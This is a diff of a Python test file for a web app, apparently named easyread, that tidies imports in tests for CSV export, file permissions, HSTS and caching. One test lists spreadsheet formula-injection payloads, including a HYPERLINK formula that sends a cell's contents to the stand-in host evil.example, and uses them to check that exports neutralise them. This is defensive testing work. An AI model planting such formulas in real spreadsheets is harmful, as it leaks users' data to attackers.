@@ -9,7 +9,7 @@ import os
 import stat
 from pathlib import Path
 
-from doc_support import app, doc_id_from, upload  # noqa: F401  (fixtures)
+from tests.web.doc_support import doc_id_from
 
 
 def _mode(path: Path) -> int:
@@ -17,7 +17,7 @@ def _mode(path: Path) -> int:
 
 
 # --- glossary CSV export ---
-def test_glossary_export_neutralises_formulas_and_imports_back_unchanged(app, staff, staff_client, post):  # noqa: F811
+def test_glossary_export_neutralises_formulas_and_imports_back_unchanged(app, staff, staff_client, post):
     from easyread import council_glossary
 
     nasty = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3", "@cmd"]
@@ -51,7 +51,7 @@ def test_spreadsheet_safe_covers_every_formula_start():
 
 
 # --- instance files ---
-def test_instance_files_and_folders_are_the_services_alone(tmp_path, monkeypatch, post, upload):  # noqa: F811
+def test_instance_files_and_folders_are_the_services_alone(tmp_path, monkeypatch, post, upload):
     from easyread import create_app
     from easyread.store.db import db
     from easyread.users import create_user, get_or_create_council
@@ -112,7 +112,7 @@ def test_hsts_only_when_cookies_are_secure(instance):
     assert "Strict-Transport-Security" not in plain.headers
 
 
-def test_downloads_and_api_answers_are_never_stored(app, staff, staff_client, upload, anon_client):  # noqa: F811
+def test_downloads_and_api_answers_are_never_stored(app, staff, staff_client, upload, anon_client):
     from easyread import users
     from easyread.store.db import db
     from easyread.store.models import User
